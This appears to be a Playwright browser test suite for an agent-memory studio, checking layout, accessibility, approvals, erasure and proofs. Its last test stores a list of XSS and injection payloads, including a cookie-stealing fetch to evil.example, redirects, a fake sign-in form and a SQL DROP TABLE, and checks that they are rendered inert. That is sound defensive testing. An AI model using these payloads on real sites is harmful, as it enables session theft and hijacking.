"""The studio in a real browser: every page and flow, two widths, two colours, the keyboard."""

import re
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
from playwright.sync_api import Page, expect
from tests.browser.conftest import Open, serving
from tests.notarial import PARTLY, VALID, outsider
from tests.studios import opened

from muniment.adapters.studio.page_context import Studio
from muniment.engine.api.remember import PART_SENTENCES
from muniment.model.scope import stream_from_text

Served = tuple[str, Studio]
ADA = "main/agent/ada/actor"
PAGES = {
    "people": "/",
    "person": "/person?user=mira",
    "memories": "/memories",
    "search": "/search?q=lisbon",
    "talks": "/talks",
    "talk": "/talk?user=mira&session=mira-kitchen",
    "life": "/life?user=mira",
    "map": "/map?user=mira",
    "logs": "/logs",
    "timeline": f"/log?stream={ADA}",
    "entry": f"/entry?stream={ADA}&seq=4",
    "lab": f"/lab?stream={ADA}&user=mira&q=Where+do+I+live",
    "council": "/council",
    "difference": f"/diff?stream={ADA}&from=3",
    "privacy": "/privacy?user=mira",
    "retention": "/retention",
    "branches": "/branches",
    "branch": "/branch?name=kyoto-in-autumn",
    "sources": "/rollback",
    "rollback": "/rollback?agent=ada&user=mira&by=session&name=mira-kitchen",
    "what-if": "/what-if",
    "prove": "/prove",
    "signed": f"/signed?stream={ADA}",
}
WIDTHS = ((1440, False), (390, True))
SERIOUS = {"serious", "critical"}


def settled(page: Page) -> None:
    """What the page fetches after its first paint has come."""
    page.wait_for_load_state("networkidle")


def accessible(page: Page) -> None:
    # What passes is only counted: its list of every element is longer than the page.
    found = Axe().run(page, options={"resultTypes": ["violations"]}).response["violations"]
    bad = [
        f"{each['id']}: {each['nodes'][0]['html']} {each['nodes'][0]['failureSummary']}"
        for each in found
        if each["impact"] in SERIOUS
    ]
    assert not bad, bad


@pytest.mark.parametrize(("width", "dark"), WIDTHS)
@pytest.mark.parametrize("name", PAGES)
def test_every_page_fits_the_screen_and_everybody_can_use_it(
    looking: Served, look: Open, shots: Path, name: str, *, width: int, dark: bool
) -> None:
    home, _ = looking
    page = look(width, dark=dark)
    page.goto(home + PAGES[name])
    settled(page)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    accessible(page)
    page.screenshot(path=shots / f"{name}-{width}.png")
    page.emulate_media(color_scheme="light" if dark else "dark")  # eyes that prefer the others
    page.reload()
    settled(page)
    accessible(page)


def test_the_overview_counts_layers_and_says_what_awaits(looking: Served, come: Open) -> None:
    home, _ = looking
    page = come(home)
    page.goto(f"{home}/logs")
    settled(page)
    expect(page.get_by_role("link", name="2 awaiting a decision")).to_be_visible()
    expect(page.get_by_role("cell", name="Told", exact=True).first).to_be_visible()
    assert page.locator(".chart canvas").count() >= 1


def test_older_entries_come_without_leaving_the_page(looking: Served, come: Open) -> None:
    home, _ = looking
    page = come(home)
    page.goto(f"{home}/log?stream={ADA}")
    before = page.locator(".log tbody tr").count()
    page.get_by_role("link", name="Show older entries").click()
    expect(page.locator(".log tbody tr")).to_have_count(before + 50)
    assert page.url.endswith(f"/log?stream={ADA}")


def test_a_slider_goes_back_to_any_entry_and_every_link_stays_there(
    looking: Served, come: Open
) -> None:
    home, _ = looking
    page = come(home)
    page.goto(f"{home}/log?stream={ADA}&receipts=1")
    slider = page.locator("[data-slider]")
    slider.focus()
    slider.evaluate(
        "(each) => { each.value = 12; each.dispatchEvent(new Event('change', {bubbles: true})) }"
    )
    page.wait_for_url(re.compile("at=12"))
    expect(page.get_by_text("as of entry 12")).to_be_visible()
    assert page.locator(".log tbody tr").count() == 12
    page.get_by_role("link", name="Back to now").click()
    expect(page.get_by_text("as of entry")).to_have_count(0)


def test_from_an_entry_to_its_item_to_what_led_there(
    looking: Served, come: Open, shots: Path
) -> None:
    home, _ = looking
    page = come(home)
    page.goto(f"{home}/log?stream={ADA}&text=Lisbon&kind=episodic_written")
    page.locator("a.made").last.click()
    expect(page.get_by_role("heading", name="Its trail")).to_be_visible()
    accessible(page)
    page.screenshot(path=shots / "item-1440.png")
    node = page.locator("svg a").first
    node.focus()
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("/entry"))
    expect(page.get_by_role("heading", name=re.compile("Entry"))).to_be_visible()


def test_an_entry_opens_as_card_json_and_plain(looking: Served, come: Open) -> None:
    home, _ = looking
    page = come(home)
    page.goto(f"{home}/entry?stream={ADA}&seq=4")
    for view, word in (("JSON", '"header"'), ("Plain", "header.seq: 4")):
        page.get_by_role("link", name=view, exact=True).click()
        expect(page.locator("pre")).to_contain_text(word)


def test_two_members_approve_what_neither_could_alone(
    deciding: Served, come: Open, shots: Path
) -> None:
    home, studio = deciding
    grace = come(home, "grace")
    grace.goto(f"{home}/council")
    grace.get_by_role("link", name=re.compile("favorite tea")).click()
    accessible(grace)
    grace.screenshot(path=shots / "request-1440.png")
    expect(grace.get_by_text("You said yes.")).to_be_visible()  # it stands already
    expect(grace.get_by_role("button", name="Approve")).to_have_count(0)
    alan = come(home, "alan")
    alan.goto(f"{home}/council")
    alan.get_by_role("link", name=re.compile("favorite tea")).click()
    alan.get_by_role("button", name="Approve").click()
    expect(alan.locator("main .badge").first).to_have_text(re.compile("done|approved"))
    facts = studio.memory.auditor().facts("user/profile/user_jonas")
    assert [fact.value for fact in facts] == ["lapsang"]


def test_everything_about_a_person_is_destroyed_and_the_receipt_stays(
    deciding: Served, come: Open
) -> None:
    home, _ = deciding
    grace = come(home, "grace")
    grace.goto(f"{home}/privacy?user=mira")
    grace.fill("#reason", "she asked for it")
    grace.get_by_role("button", name="Ask for erasure").click()
    where = grace.url
    for name in ("alan", "ken", "dennis"):
        member = come(home, name)
        member.goto(where)
        if not member.get_by_role("button", name="Approve").count():
            break
        member.get_by_role("button", name="Approve").click()
    grace.goto(where)
    grace.get_by_role("button", name="Destroy it now").click()
    expect(grace.get_by_role("heading", name="Erasures")).to_be_visible()
    assert grace.locator("table tbody tr").first.inner_text().startswith("req:")
    with grace.expect_download() as saved:
        grace.get_by_role("button", name="Download").click()
    assert saved.value.suggested_filename.endswith(".proof")
    grace.goto(f"{home}/privacy?user=mira")
    expect(grace.get_by_text("Nothing is known about")).to_be_visible()
    grace.goto(f"{home}/log?stream={ADA}&text=Lisbon")
    assert "moved to Lisbon" not in grace.inner_text("main")


def test_what_was_superseded_comes_back_by_undo(deciding: Served, come: Open) -> None:
    home, studio = deciding
    jonas = studio.memory.agent("ada", user="jonas")
    talk = jonas.conversation(session="jonas-desk")
    start = jonas.seq
    talk.record(user="My editor is vim", ai="Noted")
    talk.record(user="Correction: my editor is emacs", ai="Corrected")
    page = come(home)
    page.goto(f"{home}/diff?stream={ADA}&from={start}")
    page.get_by_role("button", name="Undo").first.click()
    page.wait_for_url(re.compile("/log"))
    assert any("vim" in item.text for item in talk.items("profile"))


def test_the_lab_shows_each_term_and_says_why_something_was_left_out(
    looking: Served, come: Open
) -> None:
    home, studio = looking
    page = come(home)
    page.goto(f"{home}/lab?stream={ADA}&user=mira&q=Miso+the+dog+in+the+park")
    assert page.locator(".hits .slices rect").count() > page.locator(".hits > li").count()
    page.locator(".hits summary").first.press("Enter")
    expect(page.locator(".hits .terms").first).to_contain_text("the question's words")
    expect(page.get_by_role("heading", name="What was left out, and why").first).to_be_visible()
    apart = next(iter(studio.counting.survey(studio.stream(ADA))[0].apart))
    page.get_by_label("Why not this one?").select_option(apart)
    page.get_by_role("button", name="Why not").click()
    expect(page.locator("#why")).to_contain_text("nobody has vouched for it")
    expect(page.locator("#why")).to_contain_text("external")


def test_what_came_from_outside_waits_for_the_person_it_was_told_to(
    deciding: Served, come: Open
) -> None:
    home, studio = deciding
    stranger = come(home, "grace")
    stranger.goto(f"{home}/apart?stream={ADA}")
    expect(stranger.get_by_text("SYSTEM NOTICE")).to_be_visible()
    expect(stranger.get_by_role("button", name=re.compile("vouch"))).to_have_count(0)
    mira = come(home, "mira")
    mira.goto(f"{home}/apart?stream={ADA}")
    mira.get_by_role("button", name=re.compile("vouch")).last.click()
    expect(mira.get_by_text("known", exact=True)).to_be_visible()
    mira.goto(f"{home}/apart?stream={ADA}")
    expect(mira.locator("main li.card")).to_have_count(1)
    found = studio.memory.agent("ada", user="mira").recall("How long does delivery take?")
    assert any("nine days" in hit.text for hit in found.hits)


def test_proving_shows_how_far_it_is_and_what_holds(looking: Served, come: Open) -> None:
    home, _ = looking
    page = come(home)
    page.goto(f"{home}/prove")
    page.get_by_role("button", name="Prove").click()
    expect(page.get_by_text("Everything holds.")).to_be_visible(timeout=60_000)
    proofs = page.get_by_role("region", name="Proofs")
    expect(
        proofs.get_by_role("cell", name="Ada, what was said and learned", exact=True)
    ).to_be_visible()
    expect(page.locator("header .proof")).to_contain_text("Proved up to now")
    page.goto(f"{home}/logs")
    expect(page.get_by_text(re.compile("verified up to entry")).first).to_be_visible()


def test_proofs_for_somebody_outside_are_saved_by_keyboard_and_hold(
    deciding: Served, come: Open, tmp_path: Path
) -> None:
    home, studio = deciding
    page = come(home)
    page.goto(f"{home}/prove")
    page.get_by_role("button", name="Sign heads").click()
    expect(page.get_by_text("is signed up to entry").first).to_be_visible(timeout=60_000)
    page.goto(f"{home}/signed?stream={ADA}")
    head = studio.memory.notary().signed(stream_from_text(ADA))[-1]
    for role, name, code in (
        ("button", "Certificate of this entry", PARTLY),
        ("button", "Bundle of this log", PARTLY),
        ("link", f"Head up to entry {head.size}", VALID),
    ):
        with page.expect_download() as saved:
            page.get_by_role(role, name=name).focus()  # type: ignore[arg-type]
            page.keyboard.press("Enter")
        assert outsider(tmp_path, saved.value.path().read_bytes(), head).code == code, name


def test_the_whole_studio_by_keyboard_alone(looking: Served, come: Open) -> None:
    home, _ = looking
    page = come(home)
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")  # past the header, to the page
    assert page.evaluate("location.hash") == "#main"
    page.goto(f"{home}/")
    visited = []
    for _ in range(40):
        page.keyboard.press("Tab")
        text = page.evaluate("document.activeElement.textContent.trim()")
        visited.append(text)
        if text == "Recall lab":
            page.keyboard.press("Enter")
            break
    page.wait_for_url(re.compile("/lab"))
    page.get_by_label("Question").focus()
    page.keyboard.type("Where is Lisbon?")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("q=Where"))
    expect(page.get_by_role("heading", name="What a prompt gets").first).to_be_visible()


ACTIVE = "main script, main iframe, main img, main style, main base, main meta"
HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(2)>',
    "javascript:alert(3)",
    "{{ 7*7 }} {% raw %}",
    "<a href='https://evil.example'>click</a>",
    "</textarea></pre></blockquote><iframe src=//evil.example>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "hx-get='https://evil.example' hx-trigger='load'",
    "<div hx-get='https://evil.example' hx-trigger='load'>",
    "\u202egnp.exe\u202c \u200b\u2066x\u2069",
    "&lt;b&gt; &#x3c;script&#x3e;",
    "<!--<script>--> ]]> <![CDATA[",
    "'; DROP TABLE entries; --",
    "\x1b[31mred\x1b[0m \x07",
    "<template><script>alert(4)</script></template>",
    "<form action=https://evil.example><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<math><mtext></p><style><img src=x onerror=alert(5)>",
)


def test_a_thousand_hostile_strings_are_text_and_nothing_leaves(tmp_path: Path, come: Open) -> None:
    count = 1_000
    with opened(tmp_path / "memory") as memory:
        ada = memory.agent("ada", user="tuff")
        ada.remember_many(f"{HOSTILE[n % len(HOSTILE)]} number {n}" for n in range(count))
        for text in HOSTILE:
            ada.remember(text)
        ada.recall("script")
    with serving(tmp_path / "memory") as (home, _):
        page = come(home)
        page.goto(f"{home}/diff?stream={ADA}&from=0")
        settled(page)
        assert page.locator(".what").count() >= 500  # a page shows at most so many changes
        assert (
            page.locator("main script, main iframe, main img, main style, main base").count() == 0
        )
        for path in (
            f"/log?stream={ADA}",
            f"/lab?stream={ADA}&user=tuff&q=script",
            f"/log?stream={ADA}&text=%3Cscript%3E",
            "/",
            "/person?user=tuff",
            "/memories?q=script",
            "/search?q=script",
            "/life?user=tuff",
            "/privacy?user=%3Cscript%3Ealert(1)%3C/script%3E",
        ):
            page.goto(home + path)
            settled(page)
            assert page.locator(ACTIVE).count() == 0
        page.goto(f"{home}/entry?stream={ADA}&seq=4&view=plain")
        shown = page.locator("pre").inner_text()
        assert shown.count("<script>fetch") == PART_SENTENCES // len(HOSTILE)
